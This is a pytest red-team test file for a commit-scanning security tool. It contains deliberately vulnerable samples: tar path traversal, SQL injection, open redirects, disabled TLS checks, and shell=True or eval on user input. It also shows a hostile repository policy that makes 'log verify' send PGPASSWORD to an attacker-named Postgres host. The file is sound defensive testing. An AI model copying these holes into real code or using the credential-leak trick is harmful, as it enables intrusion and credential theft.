"""Red team red100: what today's less eager rules, shebang reading, superseded bandit tests and work-tree log lookup let
through (411d12c..w/red100 HEAD).

Each finding test fails on w/red100 for the reason its docstring names and asserts the secure behaviour (it passes
once fixed). Real repositories (tests/repo_builder.py), the real `gatekeeper check --format json` (local mode, as CI
runs it), real semgrep with the shipped rules, real bandit, real `gatekeeper log verify`. Secret-shaped values are
built by concatenation.

Findings:

1. HIGH — scan/themes.py SUPERSEDED_BANDIT / `one_per_line` + rules/semgrep/python/tarfile-extract-unfiltered.yml:
   bandit's B202 (HIGH/HIGH, tarfile extractall without a member filter) is dropped for every commit semgrep scanned,
   but our rule only sees `tarfile.open(...)` assigned in the same function or chained: a helper that is handed the
   archive (`def unpack(archive, dest): archive.extractall(dest)`), `tarfile.TarFile.open(p)`, a chained
   `tarfile.TarFile(p).extractall()` and an archive kept on `self` are path traversal that passes with NO finding.
2. MEDIUM — scan/secrets.py `_SCRIPT_BETWEEN_STRINGS` (`_looks_like_credential`): in .js/.ts/.vue/.svelte, a quoted
   password or key whose first character is `+ } ; , ] )` (≈6% of generated passwords with symbols, 1/64 of base64
   keys) is taken for "code between two strings" and dropped. In .vue/.svelte (no semgrep rule backs it up) the
   commit is allowed with all three scanners; in .js/.ts it passes whenever only the secrets scanner runs (the
   pre-receive hook, `default: {scanners: [secrets]}`).
3. MEDIUM — rules/semgrep/javascript/sql-string-building.yml (the new "looks like SQL" regex): `` db.query(`${base}
   WHERE name LIKE '%${q}%'`) ``, a statement that opens with a comment (`-- name` / `/* tag */`), `GRANT … TO
   ${user}`, `SHOW COLUMNS FROM ${t}` — all caught at 411d12c — are no longer flagged (critical rule, no finding).
4. MEDIUM — rules/semgrep/javascript/browser-open-redirect.yml: the $ROUTER name regex misses react-router's
   `browserHistory.push(next)` / `hashHistory` and any prefixed name (`appRouter.push`), and the $EVENT regex misses
   jQuery's `e.originalEvent.data` and `messageEvt.data` — open redirects caught at 411d12c.
5. MEDIUM — rules/semgrep/javascript/tls-reject-unauthorized-false.yml `pattern-not-inside: $MOCKER.mock(...)`:
   production code whose TLS-disabling request sits inside ANY method named `mock` (`http.mock(() =>
   https.request(url, {rejectUnauthorized: false}))`) is no longer flagged.
6. MEDIUM — scan/workspace.py `interpreter_language`: env options read wrongly (`-Spython3`, `--split-string=python3`,
   `--default-signal`/`--ignore-signal`/`--block-signal` take no separate value yet the parser eats the interpreter
   as one), runners it does not know (`poetry run python`) and `python3.13t` (free-threaded build): executable
   scripts that GNU env / the kernel run as Python are dropped by every code scanner, silently (allow, no scan/*
   note).
7. MEDIUM — cli_log.py `_policy_log`: `gatekeeper log verify/show/export` with no --log reads a cloned repository's
   `.gatekeeper.yml` `log.path` with none of the restrictions a repository-supplied policy gets
   (`from_repository=False`): a hostile clone names `postgresql://attacker/...` and the command connects out, and
   libpq hands the user's PGPASSWORD to the attacker's server on a cleartext-password request.

Tried and held (no test): `pickle.loads(pickle.dumps(...))` exclusion (only an exact round trip matches);
shell= / shell: truthy values (`1`, `"yes"`, `process.env.SHELL || '/bin/sh'`, `bool(x)` — all flagged);
builtins.eval/exec and eval(x, globals); `[API_KEY]`, `A_B/C:D` and `env:NAME` markers (whole-value anchored,
generic rules only, no random key is all upper-case letters and `_`); provider rules are unaffected by
`_SCRIPT_BETWEEN_STRINGS`; B602/B605/B307/B102/B308/B703/B608 variants (sp alias, args=, os.popen, f-strings,
`% (a, b)` tuples, `.format(*x)`, sqlalchemy text(), safestring.mark_safe, SafeString) all carry a finding of ours;
`#!/usr/bin/env -S -vS python3`, `uv run --python 3.12 --script`, `npx --yes tsx`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.hook_helpers import DANA, TEST_POLICY
from tests.pg_fake import FakePostgres
from tests.repo_builder import RepoBuilder
from tests.scan_helpers import ALL_SCANNERS_POLICY, SECRETS_ONLY_POLICY, check_commit

ALL_SCANNERS = ALL_SCANNERS_POLICY
SECRETS_ONLY = SECRETS_ONLY_POLICY


def _check(tmp_path: Path, files: dict[str, str], *, policy: str = ALL_SCANNERS,
           executable: bool = False) -> tuple[int, dict[str, Any]]:
    """Dana's one commit of `files` on top of a README, judged by the real `gatekeeper check --format json`."""
    return check_commit(tmp_path, files, policy, executable=executable)


def _rules(verdict: dict[str, Any]) -> list[tuple[str, str | None, int | None, bool]]:
    return [(f["rule_id"], f.get("path"), f.get("line"), bool(f.get("blocking"))) for f in verdict["findings"]]


def _bandit(tmp_path: Path, name: str, text: str) -> list[tuple[str, str, str, int]]:
    where = tmp_path / "premise"
    where.mkdir(exist_ok=True)
    (where / name).write_text(text)
    raw = subprocess.run([sys.executable, "-I", "-m", "bandit", "-f", "json", "-q", name], cwd=where,
                         capture_output=True, text=True, check=False, timeout=120)
    return [(r["test_id"], r["issue_severity"], r["issue_confidence"], r["line_number"])
            for r in json.loads(raw.stdout)["results"]]


# -- 1. bandit's B202 dropped as "superseded" where our tarfile rule sees nothing ----------------------------------

TARS = {
    "handed-the-archive": "import sys\nimport tarfile\n\n\ndef unpack(archive, dest):\n"
                          "    archive.extractall(dest)\n\n\nunpack(tarfile.open(sys.argv[1]), sys.argv[2])\n",
    "tarfile-TarFile-open": "import sys\nimport tarfile\n\n\ndef unpack(path, dest):\n"
                            "    archive = tarfile.TarFile.open(path)\n    archive.extractall(dest)\n\n\n"
                            "unpack(sys.argv[1], sys.argv[2])\n",
    "chained-TarFile": "import sys\nimport tarfile\n\n\ndef unpack(path, dest):\n"
                       "    tarfile.TarFile(path).extractall(dest)\n\n\nunpack(sys.argv[1], sys.argv[2])\n",
    "kept-on-self": "import sys\nimport tarfile\n\n\nclass Bundle:\n    def __init__(self, path):\n"
                    "        self.tar = tarfile.open(path)\n\n    def unpack(self, dest):\n"
                    "        self.tar.extractall(dest)\n\n\nBundle(sys.argv[1]).unpack(sys.argv[2])\n",
}


@pytest.mark.parametrize("kind", sorted(TARS))
def test_bandit_b202_on_an_archive_our_rule_cannot_see_is_not_dropped(tmp_path: Path, kind: str) -> None:
    """Attack: the commit extracts an uploaded tar archive with `extractall()` and no member filter (path traversal:
    `../../home/u/.ssh/authorized_keys` members). bandit reports B202 HIGH/HIGH on the line (premise below). Our
    python-tarfile-extract-unfiltered only matches a `tarfile.open(...)`/`tarfile.TarFile(...)` assigned in the same
    scope or `tarfile.open(...).extractall()` chained, so for a helper handed the archive, `tarfile.TarFile.open`,
    a chained `tarfile.TarFile(p)` or an archive kept on `self`, semgrep says nothing — and scan/themes.py
    `one_per_line` drops B202 (in SUPERSEDED_BANDIT) for the whole commit because semgrep ran. Verdict: allow, no
    finding. Severity: high. Secure: blocked (bandit/B202 or a rule of ours on the extractall line)."""
    text = TARS[kind]
    line = next(n for n, t in enumerate(text.splitlines(), 1) if "extractall" in t)
    assert ("B202", "HIGH", "HIGH", line) in _bandit(tmp_path, "unpack.py", text)
    code, verdict = _check(tmp_path, {"tools/unpack.py": text})
    assert verdict["stats"]["scanners"]["semgrep"]["ran"] and verdict["stats"]["scanners"]["bandit"]["ran"]
    assert verdict["decision"] == "block" and code == 1, f"tar path traversal passed: {_rules(verdict)}"
    assert any(r[2] == line and r[3] for r in _rules(verdict)), _rules(verdict)


# -- 2. a password whose first character is one of `+ } ; , ] )` in script source ---------------------------------

PASSWORD = "k9V" + "q#2mLx7!Rw"
API_KEY = "Gx4Jq9PzR2vYb7" + "Kc1WmN5tLs8HdQe3Ua6="

SCRIPT_SECRETS = {
    # (path, text with {v} for the value, policy)
    "vue-plus": ("src/Login.vue", '<script>\nexport default { data() { return { password: "{v}" } } }\n</script>\n',
                 ALL_SCANNERS, "+" + PASSWORD),
    "svelte-brace": ("src/Login.svelte", '<script>\n  let password = "{v}";\n</script>\n', ALL_SCANNERS,
                     "}" + PASSWORD),
    "js-semicolon": ("src/db.js", 'module.exports = { host: "db.internal", password: "{v}" };\n', SECRETS_ONLY,
                     ";" + PASSWORD),
    "ts-comma": ("src/db.ts", 'export const DB_PASSWORD = "{v}";\n', SECRETS_ONLY, "," + PASSWORD),
    "js-base64-key": ("src/client.js", 'const headers = { "x-api-key": "{v}" };\n', SECRETS_ONLY, "+" + API_KEY),
}


def test_control_the_same_password_without_the_leading_character_is_blocked(tmp_path: Path) -> None:
    """Control (passes): `password: "k9Vq#2mLx7!Rw"` in a .svelte file is found by secrets/generic-password."""
    path, text, policy, _ = SCRIPT_SECRETS["svelte-brace"]
    code, verdict = _check(tmp_path, {path: text.replace("{v}", PASSWORD)}, policy=policy)
    assert verdict["decision"] == "block" and code == 1, _rules(verdict)


@pytest.mark.parametrize("kind", sorted(SCRIPT_SECRETS))
def test_a_script_password_starting_with_punctuation_is_still_a_secret(tmp_path: Path, kind: str) -> None:
    """Attack: a real password (or base64 key) that happens to begin with `+`, `}`, `;` or `,` is committed as a
    quoted value in JavaScript/TypeScript/Vue/Svelte source. scan/secrets.py `_looks_like_credential` rejects any
    quoted value in script source that `_SCRIPT_BETWEEN_STRINGS` matches — `\\A[)\\],;+}]` — as "the code between two
    strings of a minified bundle", so generic-password/generic-secret/api-key-header drop it. .vue/.svelte have no
    semgrep rule behind them (allowed with all three scanners); .js/.ts pass whenever only `secrets` runs (the
    pre-receive hook's scanner). Severity: medium. Secure: blocked by a secrets finding. (A value read between two
    strings also has the closing quote of one and the opening quote of the next around it: check that, not the
    first character.)"""
    path, text, policy, value = SCRIPT_SECRETS[kind]
    code, verdict = _check(tmp_path, {path: text.replace("{v}", value)}, policy=policy)
    assert verdict["decision"] == "block" and code == 1, f"{kind}: secret passed: {_rules(verdict)}"
    assert any(r[0].startswith("secrets/") and r[1] == path for r in _rules(verdict)), _rules(verdict)


# -- 3-5. semgrep rules made less eager today: real sinks they no longer flag --------------------------------------

JS_MISSES = {
    # 3. SQL injection (js-sql-string-building; each caught by the rule at 411d12c)
    "sql-like-after-base": ("src/search.js",
                            "async function search(db, req, base) {\n"
                            "  return db.query(`${base} WHERE name LIKE '%${req.query.q}%'`);\n}\n"
                            "module.exports = search;\n", 2),
    "sql-leading-comment": ("src/list.js",
                            "async function list(db, req) {\n"
                            "  return db.query(`/* list users */ SELECT * FROM users ORDER BY ${req.query.sort}`);\n"
                            "}\nmodule.exports = list;\n", 2),
    "sql-grant": ("src/admin.js",
                  "async function grant(db, req) {\n"
                  "  return db.query(`GRANT SELECT ON reports TO ${req.body.user}`);\n}\n"
                  "module.exports = grant;\n", 2),
    "sql-show": ("src/meta.js",
                 "async function columns(db, req) {\n"
                 "  return db.query(`SHOW COLUMNS FROM ${req.query.table}`);\n}\n"
                 "module.exports = columns;\n", 2),
    # 4. open redirect (js-browser-open-redirect)
    "redirect-browserHistory": ("src/login.js",
                                "import { browserHistory } from 'react-router';\n\nexport function afterLogin() {\n"
                                "  const next = new URLSearchParams(window.location.search).get('next');\n"
                                "  browserHistory.push(next);\n}\n", 5),
    "redirect-appRouter": ("src/nav.js",
                           "export function afterLogin(appRouter) {\n"
                           "  const next = new URLSearchParams(window.location.search).get('next');\n"
                           "  appRouter.push(next);\n}\n", 3),
    "redirect-jquery-message": ("src/frame.js",
                                "$(window).on('message', function (e) {\n"
                                "  window.location.href = e.originalEvent.data;\n});\n", 2),
    "redirect-messageEvt": ("src/frame2.js",
                            "window.addEventListener('message', (messageEvt) => {\n"
                            "  window.location.href = messageEvt.data;\n});\n", 2),
    # 5. TLS verification off (js-tls-reject-unauthorized-false) inside any `.mock(...)`
    "tls-inside-a-mock-named-wrapper": ("src/bank.js",
                                        "const https = require('https');\nconst http = require('./http');\n\n"
                                        "const client = http.mock(() => https.request('https://bank.example/api', "
                                        "{ rejectUnauthorized: false }));\nmodule.exports = client;\n", 4),
}


@pytest.mark.parametrize("kind", sorted(JS_MISSES))
def test_a_real_sink_the_narrowed_rule_stopped_seeing_is_flagged(tmp_path: Path, kind: str) -> None:
    """Attack: production JavaScript with a real injection/redirect/TLS sink in a shape today's narrowing
    (03bb36c) excludes. SQL: the new "looks like SQL" regex wants a statement keyword at the very start or
    `col = ${…}`/`LIKE ${…}` right after the operator; a template starting with `${base}` and `LIKE '%${q}%'`, a
    leading comment, GRANT and SHOW fail all three branches. Redirect: $ROUTER must be named exactly
    router/history/navigation/navigate (so `browserHistory`, `appRouter` are not), $EVENT exactly e/ev/evt/…
    (so `e.originalEvent.data`, jQuery's message payload, is not). TLS: `pattern-not-inside: $MOCKER.mock(...)`
    exempts everything inside any call of a method named `mock`. Each was flagged by the rule at 411d12c; now the
    commit is allowed with no finding. Severity: medium (critical rule for SQL). Secure: a blocking finding on the
    sink's line."""
    path, text, line = JS_MISSES[kind]
    code, verdict = _check(tmp_path, {path: text})
    assert verdict["stats"]["scanners"]["semgrep"]["ran"]
    assert any(r[0].startswith("semgrep/") and r[2] == line and r[3] for r in _rules(verdict)), (
        f"{kind}: sink on line {line} passed: {_rules(verdict)}")
    assert verdict["decision"] == "block" and code == 1


def test_control_router_push_of_a_query_parameter_is_blocked(tmp_path: Path) -> None:
    """Control (passes): the same redirect through `router.push` is flagged."""
    path, text, line = JS_MISSES["redirect-appRouter"]
    code, verdict = _check(tmp_path, {path: text.replace("appRouter", "router")})
    assert any(r[0] == "semgrep/js-browser-open-redirect" and r[2] == line for r in _rules(verdict)), _rules(verdict)


# -- 6. #! lines env and the kernel run as Python that interpreter_language misreads -------------------------------

PY_PAYLOAD = ("import subprocess\nimport sys\n\n"
              "subprocess.call('ls ' + sys.argv[1], shell=True)\n"
              "eval(sys.argv[2])\n")
SHEBANGS = {
    "env-S-attached": "#!/usr/bin/env -Spython3",
    "env-split-string-long": "#!/usr/bin/env --split-string=python3",
    "env-default-signal": "#!/usr/bin/env -S --default-signal python3",
    "env-ignore-signal": "#!/usr/bin/env -S --ignore-signal python3",
    "poetry-run": "#!/usr/bin/env -S poetry run python",
    "free-threaded-python": "#!/usr/bin/python3.13t",
}


def test_control_env_python3_script_is_scanned(tmp_path: Path) -> None:
    """Control (passes): `#!/usr/bin/env python3` on an executable extensionless file is scanned and blocked."""
    code, verdict = _check(tmp_path, {"bin/tool": "#!/usr/bin/env python3\n" + PY_PAYLOAD}, executable=True)
    assert verdict["decision"] == "block" and code == 1, _rules(verdict)


@pytest.mark.parametrize("kind", sorted(SHEBANGS))
def test_an_interpreter_line_env_runs_as_python_is_read_as_python(tmp_path: Path, kind: str) -> None:
    """Attack: an executable `bin/tool` whose `#!` line GNU env (coreutils 9) runs as python3 — `-Spython3` and
    `--split-string=python3` are -S with its string attached; `--default-signal`/`--ignore-signal` take their
    optional value only as `=SIG`, never as the next word; `poetry run python` and CPython 3.13's free-threaded
    `python3.13t` are Python too. scan/workspace.py `interpreter_language` pops `-Spython3` as a bare option (then
    nothing is left), eats `python3` as the value of `--default-signal`, knows no `poetry` runner, and its
    `(?:python|pypy)[0-9.]*w?` refuses `3.13t`: None, so `Workspace.sniffed` drops the file from semgrep and bandit
    — allow, no finding, no scan/* note. (For the `env` forms the premise is checked below by running them.)
    Severity: medium. Secure: scanned as Python (blocked) or named by a scan/* finding."""
    line = SHEBANGS[kind]
    if kind.startswith("env-"):
        script = tmp_path / "premise"
        script.write_text(line + "\nprint('ran as python')\n")
        script.chmod(0o755)
        ran = subprocess.run([str(script)], capture_output=True, text=True, check=False, timeout=30)
        assert ran.stdout.strip() == "ran as python", (ran.stdout, ran.stderr)
    code, verdict = _check(tmp_path, {"bin/tool": line + "\n" + PY_PAYLOAD}, executable=True)
    named = [r for r in _rules(verdict) if r[1] == "bin/tool"]
    assert named, f"{kind}: a Python program was neither scanned nor reported: {_rules(verdict)}"
    assert verdict["decision"] == "block" or any(r[0].startswith("scan/") for r in named), _rules(verdict)


# -- 7. `gatekeeper log verify` in a hostile clone connects where the clone's policy says --------------------------


def test_log_verify_in_a_clone_does_not_hand_the_users_pg_password_to_a_host_the_clone_names(tmp_path: Path) -> None:
    """Attack: a repository commits `.gatekeeper.yml` with `log: {path: "postgresql://<attacker>:5432/audit"}`. Its
    victim clones it and runs `gatekeeper log verify` (or show/export) there with no --log — since 9fd40da
    cli_log.py `_policy_log` takes the work tree's `log.path` through `destination(..., from_repository=False)`,
    so none of the limits a repository-supplied policy gets apply (pre-receive and the Action allow only a file
    inside the git directory). The command connects to the attacker's server as the user; on a cleartext-password
    request libpq sends PGPASSWORD (a DBA's environment commonly has it). Here a local fake server receives it.
    Severity: medium (credential disclosure / outbound connection chosen by repository content). Secure: a
    work tree policy's log.path is held to the repository rules (no URL, no path outside), or the command asks for
    --log: nothing is sent to the named host."""
    server = FakePostgres()
    repo = RepoBuilder.init(tmp_path / "clone")
    repo.commit("policy\n", {".gatekeeper.yml": TEST_POLICY + f"log: {{path: \"postgresql://victim@127.0.0.2:"
                                                             f"{server.port}/audit?connect_timeout=5\"}}\n"},
                author=DANA, committer=DANA)
    canary = "pg-" + "Canary" + "Pass-" + str(server.port)
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("GITHUB_", "INPUT_", "GATEKEEPER_", "PG"))}
    env["PGPASSWORD"] = canary
    env["PGSSLMODE"] = "prefer"
    subprocess.run([sys.executable, "-m", "gatekeeper", "log", "verify"], cwd=repo.path, capture_output=True,
                   text=True, check=False, timeout=60, env=env)
    server.sock.close()
    sent = b"".join(server.received)
    assert canary.encode() not in sent, "the user's PGPASSWORD was sent to the host the cloned repository named"
    assert not server.received, f"`log verify` connected to the host the cloned repository named: {server.received}"
